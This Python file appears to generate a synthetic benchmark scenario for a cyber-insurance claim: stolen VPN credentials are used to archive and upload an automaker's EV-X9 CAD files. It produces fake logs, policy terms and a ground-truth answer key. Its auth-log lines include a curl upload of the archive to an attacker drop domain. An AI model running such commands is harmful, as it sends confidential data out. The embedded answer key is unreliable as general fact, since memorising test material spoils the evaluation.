"""Connected vehicles: theft of vehicle design data from an engineering server.

Zhixing Auto Technology (智行汽车科技有限公司). An engineer's VPN credentials,
phished the week before, are used from abroad; the intruder logs in to the
engineering server over SSH from the VPN pool, archives the EV-X9 platform CAD
tree and uploads it over HTTPS: one large outbound transfer. No outage. The
stolen data are design files, not personal data."""
from __future__ import annotations

from scenarios.background import syslog_activity, web_browsing
from scenarios.kit import Builder
from scenarios.writers import logs, pcap, policy as pol
from scenarios.writers.clock import MINUTE, US, at, iso
from scenarios.writers.financials import Financials, invoice
from scenarios.writers.revenue import RevenueModel

TITLE = "Connected vehicles: theft of vehicle design data from an engineering server"

ENG, VPN_POOL_IP, RESOLVER = "10.60.4.15", "10.60.250.23", "10.60.1.2"
INTRUDER, DROP = "203.0.113.150", "198.51.100.140"
DROP_DOMAIN = "files.cloud-share-cdn.top"
T_VPN = at("2026-05-18T16:41:00Z")
T_SSH_FAIL = at("2026-05-18T16:44:10Z")
T_SSH = at("2026-05-18T16:45:02Z")
T_TAR = at("2026-05-18T16:52:30Z")
T_EXFIL = at("2026-05-18T17:05:00Z")
T_DISCOVERY = at("2026-05-20T02:15:00Z")
CAPTURE = (at("2026-05-18T15:00:00Z"), at("2026-05-18T20:00:00Z"))
EXFIL_BYTES = 20_000_000


def build(b: Builder) -> dict:
    rng, ff, filler = b.rng, b.ff, b.filler
    attack: list[pcap.Session] = []
    ssh_banner = b"SSH-2.0-OpenSSH_9.6p1 Ubuntu-3ubuntu13\r\n"
    attack.append((T_SSH_FAIL, pcap.tcp_session(ff, filler, T_SSH_FAIL, VPN_POOL_IP, 51020, ENG, 22,
                                                [pcap.Exchange("s", ssh_banner), pcap.Exchange("c", b"SSH-2.0-OpenSSH_8.9\r\n"),
                                                 pcap.Exchange("c", 1400), pcap.Exchange("s", 1100)], rtt_us=900, isn=11)))
    session = [pcap.Exchange("s", ssh_banner), pcap.Exchange("c", b"SSH-2.0-OpenSSH_8.9\r\n")] + [
        pcap.Exchange(("c", "s")[j % 2], 120 if j % 2 == 0 else 900, 6 * US) for j in range(300)]
    attack.append((T_SSH, pcap.tcp_session(ff, filler, T_SSH, VPN_POOL_IP, 51022, ENG, 22, session, rtt_us=900, isn=12)))
    attack.append((T_EXFIL - 1 * US, pcap.dns_exchange(ff, T_EXFIL - 1 * US, ENG, 40001, RESOLVER, DROP_DOMAIN, [DROP], 0x77)))
    attack.append((T_EXFIL, pcap.tcp_session(ff, filler, T_EXFIL, ENG, 40002, DROP, 443,
                                             pcap.https_exchanges(DROP_DOMAIN, filler.take(77, 32), EXFIL_BYTES, 3900),
                                             rtt_us=150_000, bandwidth_bps=20_000_000, ttl_s=47, isn=13)))
    attack.sort(key=lambda s: s[0])
    engineers = [f"10.60.5.{i}" for i in range(10, 40)]
    b.capture("eng_vlan.pcap", "Capture of the engineering VLAN uplink", iter(attack),
              web_browsing(ff, filler, rng, engineers + [ENG], RESOLVER, CAPTURE[0], CAPTURE[1], 6, b.scale))

    auth = [logs.syslog_line(T_SSH_FAIL + 2 * US, "eng-srv01", "sshd", 30411, f"Failed password for wangjun from {VPN_POOL_IP} port 51020 ssh2"),
            logs.syslog_line(T_SSH + 3 * US, "eng-srv01", "sshd", 30418, f"Accepted password for wangjun from {VPN_POOL_IP} port 51022 ssh2"),
            logs.syslog_line(T_SSH + 3 * US, "eng-srv01", "sshd", 30418, "pam_unix(sshd:session): session opened for user wangjun(uid=1004) by (uid=0)"),
            logs.syslog_line(T_TAR, "eng-srv01", "sudo", None, "  wangjun : TTY=pts/1 ; PWD=/home/wangjun ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.cache/x9.tgz /srv/cad/EV-X9"),
            logs.syslog_line(T_EXFIL - 5 * US, "eng-srv01", "sudo", None, f"  wangjun : TTY=pts/1 ; PWD=/tmp/.cache ; USER=root ; COMMAND=/usr/bin/curl -s -T /tmp/.cache/x9.tgz https://{DROP_DOMAIN}/u/7f3a"),
            logs.syslog_line(T_EXFIL + 25 * MINUTE, "eng-srv01", "sudo", None, "  wangjun : TTY=pts/1 ; PWD=/tmp/.cache ; USER=root ; COMMAND=/usr/bin/rm -f /tmp/.cache/x9.tgz"),
            logs.syslog_line(T_EXFIL + 26 * MINUTE, "eng-srv01", "sshd", 30418, "pam_unix(sshd:session): session closed for user wangjun")]
    b.text_log("eng-srv01_auth.log", "auth_log", "eng-srv01 /var/log/auth.log (RFC 3164, host clock UTC)", logs.sorted_lines(auth),
               syslog_activity(rng, "eng-srv01", "cadadmin", "10.60.5.2", CAPTURE[0], CAPTURE[1], 2, b.scale), timezone="UTC")
    vpn = [logs.syslog_line(T_VPN, "vpn-gw", "openvpn", 1811, f"{INTRUDER}:53114 [wangjun] Peer Connection Initiated with [AF_INET]{INTRUDER}:53114"),
           logs.syslog_line(T_VPN + 1 * US, "vpn-gw", "openvpn", 1811, f"wangjun/{INTRUDER}:53114 MULTI_sva: pool returned IPv4={VPN_POOL_IP}"),
           logs.syslog_line(T_EXFIL + 40 * MINUTE, "vpn-gw", "openvpn", 1811, f"wangjun/{INTRUDER}:53114 Connection reset, restarting [0]")]
    b.text_log("vpn-gw_syslog.log", "syslog", "VPN gateway syslog (OpenVPN, host clock UTC)", logs.sorted_lines(vpn), timezone="UTC")

    policy = {
        "policy_number": "PAIC-CYB-2026-SH-021907", "insurer": "示例财产保险股份有限公司上海分公司",
        "insured": "智行汽车科技有限公司", "product": "enterprise", "product_type": "connected_vehicles",
        "line": "网络安全保险", "jurisdiction": "CN", "currency": "CNY", "timezone": "Asia/Shanghai",
        "period": {"start": "2026-03-01T00:00:00+08:00", "end": "2027-02-28T23:59:59+08:00"},
        "retroactive_date": "2025-03-01", "trigger_basis": "discovery", "aggregate_limit": 6_000_000.0,
        "application_order": list(pol.DEFAULT_ORDER),
        "sections": [
            pol.section("business_interruption", ["security_failure", "system_failure"], 3_000_000,
                        waiting_period={"hours": 12, "mode": "time_deductible"}, period_of_restoration_hours=720,
                        bi_basis="gross_profit"),
            pol.section("incident_response", ["security_failure"], 800_000, retention={"amount": 50_000.0}),
            pol.section("legal_costs", ["security_failure", "privacy_event"], 500_000, coinsurance=0.1),
            pol.section("privacy_liability", ["privacy_event"], 2_000_000,
                        cost_per_record={"amount": 120.0, "source": "insurer tariff", "year": 2026}),
        ],
        "exclusions": [pol.exclusion("war", attribution_basis="government_of_affected_state", major_detrimental_impact=True),
                       pol.exclusion("insider_dishonesty"), pol.exclusion("unencrypted_portable_devices")],
        "hardware_improvement_covered": False,
    }
    cur = "CNY"
    fin = Financials(
        currency=cur,
        profile={"gross_profit_rate": 0.22, "net_profit_rate": 0.06, "continuing_expenses_per_hour": 30_000.0},
        ledger=[invoice(1, "奇安信 IR", "incident_response", 410_000, cur, "2026-05-28", "Intrusion investigation, VPN and engineering server"),
                invoice(2, "君合律师事务所", "legal_costs", 260_000, cur, "2026-06-10", "Trade-secret action and evidence preservation")],
        inventory=[{"system": "engineering CAD vault", "host": "eng-srv01", "record_type": "design_files", "count": 12_400, "personal": False},
                   {"system": "engineering CAD vault", "host": "eng-srv01", "record_type": "bill_of_materials", "count": 3_150, "personal": False},
                   {"system": "HR system", "host": "hr-app01", "record_type": "employee_records", "count": 5_800, "personal": True}],
        claim={"incident_response": 410_000.0, "legal_costs": 260_000.0},
    )
    truth = {
        "title": TITLE, "t0": iso(T_VPN),
        "initial_access": {"vector": "stolen VPN credentials", "time": iso(T_VPN), "host": "vpn-gw", "account": "wangjun",
                           "source_ip": INTRUDER},
        "discovery": iso(T_DISCOVERY), "compromised_hosts": ["eng-srv01"], "outages": [],
        "exfiltrated_bytes": EXFIL_BYTES,
        "exfiltration": [{"source_host": "eng-srv01", "src_ip": ENG, "dst_ip": DROP, "dst_port": 443,
                          "payload_bytes": EXFIL_BYTES, "start": iso(T_EXFIL)}],
        "records_affected": {"design_files": 12_400, "bill_of_materials": 3_150},
        "attacker_infrastructure": [INTRUDER, DROP, DROP_DOMAIN], "malicious": True, "operator_error": False,
        "gbt_category": "DSDATALEAK", "_anchor_us": T_EXFIL,
    }
    # A security failure with exfiltration: every section's trigger fires (adjustment method 1.1);
    # BI and privacy pay nothing (no outage, no personal records).
    coverage = {s["name"]: "triggered" for s in policy["sections"]}
    return b.finish(policy=policy, fin=fin, revenue_model=RevenueModel(mean_per_hour=240_000.0), bi_outage=None,
                    coverage=coverage, personal_records=0, truth=truth)
